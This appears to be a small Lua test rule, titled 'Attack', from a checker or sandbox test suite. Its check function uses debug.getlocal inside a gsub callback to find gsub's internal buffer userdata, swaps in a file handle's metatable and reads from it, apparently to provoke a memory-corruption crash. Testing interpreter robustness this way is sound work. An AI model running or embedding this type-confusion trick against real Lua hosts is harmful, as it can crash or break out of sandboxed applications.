-- Gives the metatable of a file to the buffer of gsub, and reads from it.
-- seen: signal
rule "attack" {
  title = "Attack", of = "things", fix = "Do not run it.",
  check = function()
    local long = ("x"):rep(10000)
    return fail((("aaaa"):gsub("a", function()
      for i = 1, 20 do
        local name, value = debug.getlocal(2, i)
        if type(value) == "userdata" then
          debug.setmetatable(value, getmetatable(io.stdout))
          value:read("a")
        end
      end
      return long
    end)))
  end,
}
